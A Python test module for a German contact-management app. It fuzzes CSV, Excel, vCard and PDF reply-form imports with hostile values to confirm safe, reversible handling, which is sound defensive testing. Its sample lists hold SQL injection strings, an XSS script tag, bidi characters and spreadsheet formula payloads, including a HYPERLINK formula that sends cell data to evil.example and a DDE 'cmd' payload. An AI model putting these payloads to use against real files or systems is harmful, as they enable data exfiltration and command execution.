"""Hostile input through the services (issue 14, deliver 8), on SQLite and PostgreSQL: files
full of SQL, formulas, control and bidi characters and overlong fields imported as CSV, Excel
and vCard. The dry run reports exactly what the import then does; what is stored keeps the
forms' limits and holds no invisible characters; a rejected row is named by row and field and
a rejected import leaves every table as it was; what is exported reads back unchanged, formulas
as text. Returned reply forms that are random bytes or cut off are listed as unreadable with
the reason, and nothing is applied.

The database is shared by the examples of one test (a fresh one per example would cost a
migration each): every property holds whatever earlier examples stored.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from beratung.domain.contacts import Affiliation, Organisation, Person
from beratung.domain.errors import UserError
from beratung.domain.events import Registration
from beratung.domain.models import DistributionList
from beratung.domain.records import AuditEntry
from beratung.domain.rules.text import without_invisible
from beratung.interchange import CONTACT_FIELDS
from beratung.services.base import ServiceContext
from beratung.services.contact_io import ImportOptions
from beratung.services.demo import DemoService
from beratung.services.events import EventService
from beratung.services.limits import column_limit

SHARED_DB = settings(
    deadline=None, max_examples=30, derandomize=True, database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

NASTY = [
    "'); DROP TABLE person;--",
    "Robert'); DELETE FROM organisation WHERE ('1'='1",
    '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
    "=1+2",
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "=cmd|' /C calc'!A0",
    "Mül\x07ler\u202e\u200b\x1b",
    "\u202eevil\u202c",
    "<script>alert(1)</script>",
    "x" * 100_000,
    "ä" * 101,
    "Zeile 1\r\nZeile 2",
    "\\N;,",
]
value = st.one_of(st.sampled_from(NASTY), st.text(max_size=25), st.just(""))
short_value = st.one_of(st.sampled_from([v for v in NASTY if len(v) <= 50]),
                        st.text(min_size=1, max_size=25))

#: The import file's columns (German Outlook names, recognised without mapping).
COLUMNS = {"vorname": "Vorname", "nachname": "Nachname", "organisation": "Firma",
           "email": "E-Mail-Adresse", "ort": "Ort geschäftlich", "notizen": "Notizen",
           "verteiler": "Verteiler"}
email = st.one_of(st.sampled_from(["", "anna@ulm.de", "o'brien@ulm.de", "=1+2@ulm.de"]), value)
row_strategy = st.fixed_dictionaries({
    field: email if field == "email" else st.one_of(st.text(max_size=25), value)
    for field in COLUMNS})
ENGLISH = re.compile(r"\b(the|is|not|of|and|invalid|error|expected|cannot|line|field|none|"
                     r"file|failed|must)\b", re.IGNORECASE)


def _file(rows: list[dict[str, str]], fmt: str) -> bytes:
    if fmt == "xlsx":
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(list(COLUMNS.values()))
        for row in rows:
            sheet.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", row[f])
                          for f in COLUMNS])
            for cell in sheet[sheet.max_row]:
                cell.data_type = "s"  # text as typed, even "=1+2"
        buffer = io.BytesIO()
        workbook.save(buffer)
        return buffer.getvalue()
    if fmt == "vcf":
        def esc(text: str) -> str:
            return (text.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")
                    .replace("\r\n", "\\n").replace("\n", "\\n").replace("\r", "\\n"))
        cards = []
        for row in rows:
            cards.append("\r\n".join([
                "BEGIN:VCARD", "VERSION:3.0",
                f"N:{esc(row['nachname'])};{esc(row['vorname'])};;;",
                f"FN:{esc(row['vorname'])} {esc(row['nachname'])}",
                f"ORG:{esc(row['organisation'])}", f"EMAIL:{esc(row['email'])}",
                f"ADR;TYPE=WORK:;;;{esc(row['ort'])};;;", f"NOTE:{esc(row['notizen'])}",
                "END:VCARD"]))
        return ("\r\n".join(cards) + "\r\n").encode("utf-8")
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(COLUMNS.values())
    for row in rows:
        writer.writerow([row[f] for f in COLUMNS])
    return buffer.getvalue().encode("utf-8")


def _counts(services: Any) -> tuple[int, ...]:
    with services.db.read() as s:
        return tuple(s.scalar(select(func.count()).select_from(model)) or 0
                     for model in (Person, Organisation, Affiliation, DistributionList,
                                   AuditEntry))


def _stored_values_are_clean(services: Any) -> None:
    with services.db.read() as s:
        for model in (Person, Organisation, Affiliation, DistributionList):
            for obj in s.scalars(select(model)):
                for column in model.__table__.columns:
                    stored = getattr(obj, column.key, None)
                    if not isinstance(stored, str):
                        continue
                    limit = column_limit(model, column.key)
                    assert limit is None or len(stored) <= limit, (model, column.key)
                    assert without_invisible(stored) == stored, (model, column.key, stored)


def _german(message: str) -> None:
    assert not ENGLISH.search(re.sub(r"„[^“]*“", "", message)), message


def _comparable(report: Any) -> list[tuple[Any, ...]]:
    return [(ln.row, ln.action, ln.name, ln.message, ln.warnings, ln.changed_fields)
            for ln in report.lines]


@SHARED_DB
@given(st.lists(row_strategy, min_size=1, max_size=3), st.sampled_from(["csv", "xlsx", "vcf"]))
def test_a_hostile_file_imports_as_the_dry_run_said_or_not_at_all(
    services: Any, rows: list[dict[str, str]], fmt: str
) -> None:
    transfer = services.contact_transfer
    data = _file(rows, fmt)
    name = f"feindlich.{fmt}"
    options = ImportOptions(header_row=None if fmt == "vcf" else 1)
    before = _counts(services)
    try:
        dry = transfer.dry_run_import(data, name, options=options)
    except UserError as exc:
        event("Datei abgelehnt")
        _german(exc.message)
        with pytest.raises(UserError):
            transfer.commit_import(data, name, options=options)
        assert _counts(services) == before
        return
    assert _counts(services) == before  # the dry run wrote nothing
    done = transfer.commit_import(data, name, options=options)
    assert _comparable(done) == _comparable(dry)
    unit = "Karte" if fmt == "vcf" else "Zeile"
    rejected = [line for line in done.lines if line.action == "reject"]
    for line in rejected:
        assert f"{unit} {line.row}" in line.message, line.message
        assert any(f"{unit} {line.row}, {label}" in line.message
                   for label in CONTACT_FIELDS.values()) or "Organisation" in line.message, \
            line.message
        _german(line.message)
    event("Zeilen abgelehnt" if rejected else "importiert")
    if rejected:
        assert not done.committed
        assert _counts(services) == before
    else:
        assert done.committed
    _stored_values_are_clean(services)


@SHARED_DB
@given(st.lists(st.fixed_dictionaries({
    "vorname": short_value, "nachname": short_value, "organisation": short_value,
    "email": st.just(""), "ort": short_value, "notizen": short_value, "verteiler": st.just(""),
}), min_size=1, max_size=3), st.sampled_from(["csv", "xlsx"]))
def test_what_is_exported_reads_back_unchanged_formulas_as_text(
    services: Any, rows: list[dict[str, str]], fmt: str
) -> None:
    transfer = services.contact_transfer
    try:  # a file with many control characters is refused as binary: then nothing new
        transfer.commit_import(_file(rows, "csv"), "feindlich.csv",
                               options=ImportOptions(skip_rejected=True, header_row=1,
                                                     merge_candidates="new"))
    except UserError as exc:
        _german(exc.message)
    exported = transfer.export_contacts(fmt)
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    before = _counts(services)
    again = transfer.dry_run_import(exported, f"export.{fmt}")
    assert {line.action for line in again.lines} <= {"unchanged"}, [
        (line.action, line.message) for line in again.lines if line.action != "unchanged"]
    assert _counts(services) == before


# ---------------------------------------------------------------------------- reply forms

NOW = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)


@pytest.fixture
def event_with_form(services: Any) -> dict[str, Any]:
    context = ServiceContext(db=services.db, paths=services.paths, user="Testerin",
                             clock=lambda: NOW)
    DemoService(context).create()
    events = EventService(context)
    ulm = {row.starts_at.date().isoformat(): row.id
           for row in events.list_events()}["2017-10-25"]
    (invited, *_rest) = events.list_registrations(ulm)
    ((_name, document),) = events.render_reply_forms(ulm, [invited.id])
    return {"events": events, "event": ulm, "pdf": document.pdf}


def _registrations(services: Any) -> list[tuple[Any, ...]]:
    with services.db.read() as s:
        return [(r.id, r.status, r.companions, r.notes, r.version)
                for r in s.scalars(select(Registration).order_by(Registration.id))]


@settings(deadline=None, max_examples=12, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.data())
def test_unreadable_reply_forms_are_listed_with_the_reason_and_nothing_is_applied(
    services: Any, event_with_form: dict[str, Any], tmp_path: Path, data: Any
) -> None:
    pdf: bytes = event_with_form["pdf"]
    cut = data.draw(st.integers(0, len(pdf) - 1), label="cut")
    junk = data.draw(st.binary(max_size=500), label="junk")
    files = []
    for index, content in enumerate((pdf[:cut], junk, b"%PDF-1.7\n" + junk)):
        path = tmp_path / f"antwort-{index}.pdf"
        path.write_bytes(content)
        files.append(path)
    before = (_registrations(services), _counts(services))
    result = event_with_form["events"].import_replies(event_with_form["event"], files,
                                                      dry_run=False)
    assert not result.changed
    assert (_registrations(services), _counts(services)) == before
    named = {problem.file for problem in result.problems}
    assert {"antwort-1.pdf", "antwort-2.pdf"} <= named
    for problem in result.problems:
        assert problem.reason
        _german(problem.reason)


def _filled(pdf: bytes, values: dict[str, str]) -> bytes:
    """The reply form filled as a PDF program would (values set, file saved).

    Text values go straight into the fields' ``/V`` with ``/NeedAppearances``: pypdf's own
    appearance streams fail for characters the embedded font subset lacks ("²", BEL) once
    fontTools is installed, and a viewer that cannot draw a character still saves it."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import BooleanObject, NameObject, TextStringObject

    reader = PdfReader(io.BytesIO(pdf))
    kinds = {name: field.get("/FT") for name, field in (reader.get_fields() or {}).items()}
    writer = PdfWriter(clone_from=reader)
    buttons = {name: value for name, value in values.items() if kinds.get(name) == "/Btn"}
    texts = {name: value for name, value in values.items() if name not in buttons}
    if buttons:
        writer.update_page_form_field_values(None, buttons, auto_regenerate=False)
    for page in writer.pages:
        for reference in page.get("/Annots", []):
            field = reference.get_object()
            if "/T" not in field and "/Parent" in field:
                field = field["/Parent"].get_object()
            name = field.get("/T")
            if name in texts:
                field[NameObject("/V")] = TextStringObject(texts[name])
    form = writer._root_object["/AcroForm"]
    form[NameObject("/NeedAppearances")] = BooleanObject(True)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


reply_text = st.one_of(st.sampled_from(["²", "-1", "x" * 5_000, "Mül\x07ler\u202e\u200b",
                                        "'); DROP TABLE registration;--", "=1+2"]),
                       st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=20))


@settings(deadline=None, max_examples=8, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.fixed_dictionaries({"begleitpersonen": reply_text, "bemerkungen": reply_text,
                              "ernaehrung": reply_text, "bedarf_sonstiges_text": reply_text}))
def test_hostile_values_in_a_filled_reply_form_are_reported_not_crashed(
    services: Any, event_with_form: dict[str, Any], tmp_path: Path, values: dict[str, str]
) -> None:
    """Before, a superscript digit as companions ("²") crashed the whole import, and control
    and direction characters went into the registration's notes and needs."""
    path = tmp_path / "antwort.pdf"
    path.write_bytes(_filled(event_with_form["pdf"], {
        "teilnahme": "/ja", "einwilligung": "/Yes", **values}))
    before = (_registrations(services), _counts(services))
    dry = event_with_form["events"].import_replies(event_with_form["event"], [path],
                                                   dry_run=True)
    assert (_registrations(services), _counts(services)) == before
    for change in dry.changes:
        visible_text = without_invisible(change.text)
        assert visible_text == change.text, repr(change.text[:80])
        for note in change.notes:
            _german(note)
    for problem in dry.problems:
        _german(problem.reason)


def test_a_hostile_reply_is_applied_clean_with_the_fields_it_left_out_named(
    services: Any, event_with_form: dict[str, Any], tmp_path: Path
) -> None:
    path = tmp_path / "antwort.pdf"
    path.write_bytes(_filled(event_with_form["pdf"], {
        "teilnahme": "/ja", "einwilligung": "/Yes", "begleitpersonen": "²",
        "bemerkungen": "Kom\x07me\u202e mit dem Zug", "ernaehrung": "x" * 5_000}))
    result = event_with_form["events"].import_replies(event_with_form["event"], [path],
                                                      dry_run=False)
    (change,) = result.changes
    assert any("Begleitpersonen „²“" in note for note in change.notes)
    assert any(note.startswith("Das Feld „Ernährung“ ist zu lang") for note in change.notes)
    detail = event_with_form["events"].get_registration(change.registration_id)
    assert detail.notes is not None and "Komme mit dem Zug" in detail.notes
    assert without_invisible(detail.notes) == detail.notes
    assert detail.row.companions == 0 and not detail.needs
